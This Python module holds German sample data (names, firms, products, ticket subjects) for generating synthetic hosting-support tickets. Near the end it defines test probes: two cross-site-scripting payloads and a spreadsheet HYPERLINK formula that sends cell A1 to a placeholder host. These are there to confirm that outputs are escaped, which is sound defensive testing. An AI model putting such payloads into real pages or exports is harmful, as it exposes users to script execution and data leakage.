"""German words the sample data is made of: names, agents, products and ticket subjects.

Pure data, no logic. Subjects are grouped by the category (and, for faults, the product) they
fit, so a reader of the sample sees "Mailserver nimmt keine Mails an" on a mail server fault and
not on a web design ticket. Which pools may contain the signal keywords (``iptables``,
``firewall``, ``backup``, ``gelöscht``, ``webdesign``) matters for the ground truth: pools used for
tickets that are clean *and* recorded ``standard`` must not contain them, or the signal
``suspected_misclassification`` would fire on clean data (``tests/test_sample_oracle.py``
checks the pools against the policy's keyword pattern).
"""

from __future__ import annotations

SURNAMES = (
    "Müller", "Schmidt", "Schneider", "Fischer", "Weber", "Meyer", "Wagner", "Becker", "Schulz",
    "Hoffmann", "Schäfer", "Koch", "Bauer", "Richter", "Klein", "Wolf", "Schröder", "Neumann",
    "Schwarz", "Zimmermann", "Braun", "Krüger", "Hofmann", "Hartmann", "Lange", "Schmitt",
    "Werner", "Schmitz", "Krause", "Meier", "Lehmann", "Schulze", "Maier", "Köhler", "Herrmann",
    "König", "Walter", "Huber", "Kaiser", "Fuchs", "Peters", "Scholz", "Möller", "Weiß", "Jung",
    "Hahn", "Schubert", "Vogel", "Friedrich", "Keller", "Günther", "Frank", "Berger", "Winkler",
    "Roth", "Beck", "Lorenz", "Baumann", "Franke", "Albrecht", "Böhm", "Winter", "Krämer",
    "Vogt", "Jäger", "Sommer", "Groß", "Seidel", "Brandt", "Haas", "Schreiber", "Graf", "Kühn",
    "Engel", "Horn", "Bergmann", "Voigt", "Sauer", "Arnold", "Pfeiffer", "Löffler", "Gärtner",
)

FIRST_NAMES = (
    "Jana", "Anna", "Lena", "Sabine", "Katrin", "Miriam", "Petra", "Claudia", "Julia", "Sophie",
    "Jürgen", "Thomas", "Michael", "Andreas", "Stefan", "Markus", "Tobias", "Lukas", "Jörg",
    "Dennis", "Björn", "Uwe", "Frank", "Sven", "Günter", "Ralf", "Jens", "Hannah", "Zoë", "Ömer",
)

CITIES = (
    "Erfurt", "Jena", "Weimar", "Gera", "Gotha", "Leipzig", "Dresden", "Köln", "München",
    "Nürnberg", "Düsseldorf", "Würzburg", "Göttingen", "Lübeck", "Gößnitz", "Mülheim",
)

#: Firm name patterns; ``{s}``/``{s2}`` are surnames, ``{c}`` a city.
FIRM_PATTERNS = (
    "{s} Webdesign GmbH", "Bäckerei {s}", "{s} & {s2} Steuerberatung", "Autohaus {s} GmbH & Co. KG",
    "Praxis Dr. {s}", "{s} IT-Service e.K.", "Elektro {s}", "Kanzlei {s} & Partner",
    "Blumenhaus {s}", "{s} Immobilien GmbH", "Physiotherapie {s}", "Tischlerei {s}",
    "{c}er Mediengestaltung UG (haftungsbeschränkt)", "Gasthof Zur Linde {c}", "Fahrschule {s}",
    "{s} Versicherungsmakler GmbH", "Ingenieurbüro {s}", "Weingut {s}", "Friseursalon {s}",
    "Sportverein {c} e.V.", "{s} Logistik GmbH", "Zahnarztpraxis {s}",
)

#: Support agents (logins). The first ones are the "Spezialisten" who mostly do extended work.
SPECIALISTS = ("markus.h", "dennis.s", "jens.z", "katrin.r")
GENERALISTS = ("jana.w", "anna.k", "tobias.m", "sabine.f", "lukas.b", "miriam.t", "jürgen.p")

#: product -> the provider operates it for the customer (STD-4) or the customer does.
PRODUCTS = {
    "webhosting": True,
    "mailserver": True,
    "managed_server": True,
    "domain": True,
    "vserver": False,
    "root_server": False,
    "dedicated": False,
}
PRODUCT_WEIGHTS = {
    "webhosting": 30, "vserver": 20, "root_server": 12, "dedicated": 5,
    "mailserver": 10, "managed_server": 8, "domain": 15,
}

CONTRACT_WEIGHTS = {"basic": 60, "business": 30, "premium": 10}
PRIORITY_WEIGHTS = {"low": 20, "normal": 55, "high": 18, "urgent": 7}
CHANNEL_WEIGHTS = {"email": 45, "portal": 25, "phone": 20, "chat": 10}

# --- subjects -------------------------------------------------------------------------------

#: Faults of a service, by product. Keyword-free: managed faults are clean *standard* tickets.
FAULT_SUBJECTS = {
    "webhosting": (
        "Webserver antwortet mit 502", "Website lädt sehr langsam",
        "PHP-Fehler nach Plattform-Update", "SSL-Zertifikat wurde nicht verlängert",
        "FTP-Login schlägt fehl", "MySQL-Datenbank nicht erreichbar",
    ),
    "mailserver": (
        "Mailserver nimmt keine Mails an", "E-Mails landen im Spam-Ordner der Empfänger",
        "IMAP-Verbindung bricht ständig ab", "Mails kommen stark verzögert an",
        "Postfach meldet voll, obwohl Kontingent frei ist",
    ),
    "managed_server": (
        "Managed Server reagiert nicht", "Dienst nach Wartung nicht gestartet",
        "Hohe Last auf dem Managed Server", "Plesk-Oberfläche nicht erreichbar",
    ),
    "domain": (
        "Domain nicht erreichbar", "DNS-Auflösung schlägt sporadisch fehl",
        "Nameserver antworten nicht",
    ),
    "vserver": (
        "vServer bootet nicht mehr", "vServer nach Neustart nicht per SSH erreichbar",
        "Apache startet nicht", "Kernel-Panic nach Update",
    ),
    "root_server": (
        "Root-Server nicht per SSH erreichbar", "Docker-Container starten nicht mehr",
        "Nginx liefert 504 Gateway Timeout", "MariaDB stürzt regelmäßig ab",
    ),
    "dedicated": (
        "Dedicated Server hängt im Rescue-System", "RAID-Verbund degraded – bitte prüfen",
        "Netzwerkdurchsatz auf Dedicated Server sehr gering",
    ),
    None: ("Webseite seit heute Morgen offline", "Dienst nicht erreichbar – was ist los?"),
}

#: Extended work; these may and do contain keywords (they are recorded ``extended`` when clean).
MISCONFIGURATION_SUBJECTS = (
    "iptables-Regel hat mich ausgesperrt", "Nach Firewall-Änderung kein SSH-Zugriff mehr",
    "Firewall blockiert Port 443", "Netzwerkkonfiguration verstellt – Server offline",
    "Falsche Route gesetzt, Server nicht erreichbar", "SSH-Port geändert und ausgesperrt",
    "fail2ban sperrt die eigene IP",
)
DATA_LOSS_SUBJECTS = (
    "Backup fehlt nach Löschung", "Versehentlich Postfach gelöscht",
    "Website-Dateien gelöscht – Wiederherstellung möglich?",
    "Datenbank überschrieben, bitte Backup einspielen", "Mails aus dem Posteingang verschwunden",
    "WordPress-Verzeichnis versehentlich entfernt",
)
WEBDESIGN_SUBJECTS = (
    "Hilfe bei Webdesign", "Webdesign-Fehler im Menü", "Layout der Startseite verschoben",
    "CSS wird nicht geladen", "Kontaktformular verschickt keine Mails",
    "Bilder auf der Website werden nicht angezeigt", "Mobile Ansicht der Seite ist kaputt",
)
CUSTOMER_CENTER_DATA_SUBJECTS = (
    "Falscher DNS-Eintrag im Kundencenter", "MX-Eintrag falsch gesetzt",
    "Weiterleitung im Kundencenter falsch eingetragen", "Falsche IP im A-Record hinterlegt",
    "Rechnungsadresse fehlerhaft eingetragen", "SPF-Eintrag zerschossen, Mails werden abgelehnt",
)

#: Standard how-to work: keyword-free.
CUSTOMER_CENTER_USAGE_SUBJECTS = (
    "Wie ändere ich meine Rechnungsadresse im Kundencenter?", "Wo finde ich meine Rechnungen?",
    "Passwort für das Kundencenter zurücksetzen", "Wie lege ich ein neues Postfach an?",
    "Zwei-Faktor-Anmeldung einrichten", "Wie kündige ich einen Vertrag?",
    "Wo sehe ich meinen Traffic-Verbrauch?", "Wie füge ich einen weiteren Benutzer hinzu?",
)
SOFTWARE_USAGE_SUBJECTS = (
    "Wie richte ich die EUserv-App ein?", "Webmail: Abwesenheitsnotiz einrichten",
    "Homepage-Baukasten: Seite veröffentlichen", "Outlook mit dem Postfach verbinden",
    "Thunderbird-Einstellungen für IMAP", "Plesk: Wie lege ich eine Subdomain an?",
    "App-Installer für WordPress bedienen",
)
DOCUMENTATION_SUBJECTS = (
    "FAQ-Eintrag zu DNS aktualisiert", "Wiki: Anleitung SSH-Schlüssel ergänzt",
    "FAQ zur Mail-Einrichtung überarbeitet", "Wiki-Seite zu PHP-Versionen aktualisiert",
    "Screenshots der Kundencenter-Doku erneuert",
)

#: How-to questions that *mention* a keyword: planted false alarms of the signal (policy tier
#: standard, recorded standard, yet the subject looks like extended work).
KEYWORD_HOWTO_SUBJECTS = {
    "software_usage": (
        "Backup-Funktion der App erklären", "Webdesign-Vorlagen im Homepage-Baukasten finden",
        "Wie stelle ich gelöschte Mails im Webmail wieder her?",
    ),
    "customer_center_usage": (
        "Wo aktiviere ich die Firewall im Kundencenter?", "Backup-Zeitplan im Kundencenter ändern",
    ),
}

#: Categories no rule of the default policy knows: unclassified tickets. Keyword-free.
UNKNOWN_CATEGORY_SUBJECTS = {
    "domain_transfer": (
        "Domain-Umzug zu EUserv", "Auth-Code für Domaintransfer benötigt",
        "KK-Antrag für .de-Domain hängt",
    ),
    "sonstiges": ("Rückruf erbeten", "Allgemeine Anfrage zum Rechenzentrum", "Frage zum Standort"),
    "vertragsfrage": ("Tarifwechsel auf Business", "Frage zur Vertragslaufzeit"),
}

#: Probes for the report and the CSV outputs: they must come out inert (escaped, not executed).
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '"><img src=x onerror=alert(1)>'
FORMULA_SUBJECT = '=HYPERLINK("https://example.invalid/?q="&A1;"Rechnung öffnen")'
#: Real exports carry these: a quoted newline, and a `;` and `"` in one field.
MULTILINE_SUBJECT = (
    "Wie ändere ich meine Rechnungsadresse?\nIch bin umgezogen und finde das Feld nicht."
)
SEMICOLON_QUOTE_SUBJECT = 'Rechnung; Frage zu "Zusatzkosten" im Kundencenter'

#: Raw text of dirty ticket rows.
UNQUOTED_COMMA_SUBJECT = "Server down, bitte dringend zurückrufen"
BROKEN_QUOTE_SUBJECT = 'Kein Zugriff "auf" FTP'
UNKNOWN_PRIORITY = "dringend"
UNKNOWN_TIER = "erweitert"
